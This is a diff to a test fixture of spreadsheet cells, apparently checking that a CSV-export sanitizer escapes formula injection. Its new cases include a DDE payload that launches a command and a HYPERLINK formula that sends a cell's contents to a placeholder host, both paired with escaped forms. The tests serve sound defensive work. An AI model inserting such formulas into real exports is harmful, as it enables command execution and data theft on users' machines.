@@ -40,6 +40,9 @@ SPREADSHEET_CELLS = [
     ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"),
     ("第一行\r第二行", "第一行\r第二行"),
+    ("-12亿元(2024年)", "-12亿元(2024年)"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ('-1+HYPERLINK("http://host/?"&A1)', '\'-1+HYPERLINK("http://host/?"&A1)'),
 ]
 
 
